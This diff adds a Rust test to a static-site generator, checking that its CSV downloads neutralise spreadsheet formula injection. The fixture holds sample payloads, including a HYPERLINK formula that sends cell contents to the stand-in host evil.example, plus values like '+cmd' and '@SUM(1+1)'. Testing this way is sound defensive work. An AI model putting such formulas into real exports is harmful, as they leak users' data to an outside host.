@@ -275,3 +275,55 @@ fn raw_html_is_kept_when_the_site_allows_it() {
     assert!(select(&page, "span[style]").is_empty());
     assert!(text_of(&select(&page, "main")[0]).contains("Trusted note"));
 }
+
+/// A title, a name or a label that a spreadsheet would run as a formula
+/// comes out of every CSV download as text: prefixed with `'`.
+#[test]
+fn csv_downloads_never_carry_a_formula() {
+    let dir = tempfile::tempdir().unwrap();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    write(
+        &dir.path().join("content/formula.md"),
+        &format!(
+            "---\ntitle: {}\ndate: 2024-05-01\nsource: \"@SUM(1+1)\"\ncountries: [Iran]\n\
+             topics: [energy]\npeople:\n  - {{name: \"+cmd\", role: \"-2+3\"}}\n\
+             figures:\n  - {{value: -5, unit: USD, label: \"=1+1\", text: \"-5 dollars\", \
+             sentence: \"=A1\"}}\n---\n\nText.\n",
+            quoted(formula)
+        ),
+    );
+    let out = dir.path().join("public");
+    briefing()
+        .args(["build", "--root"])
+        .arg(dir.path())
+        .arg("--output")
+        .arg(&out)
+        .assert()
+        .success();
+    let mut files = 0;
+    let mut seen_title = false;
+    for entry in walkdir::WalkDir::new(&out) {
+        let entry = entry.unwrap();
+        if entry.path().extension().is_none_or(|e| e != "csv") {
+            continue;
+        }
+        files += 1;
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_path(entry.path())
+            .unwrap();
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                assert!(
+                    !risky || cell.parse::<f64>().is_ok(),
+                    "{}: cell {cell:?} would run as a formula",
+                    entry.path().display()
+                );
+                seen_title |= cell == format!("'{formula}");
+            }
+        }
+    }
+    assert!(files >= 3, "the build writes its CSV downloads");
+    assert!(seen_title, "the title is kept, as text");
+}
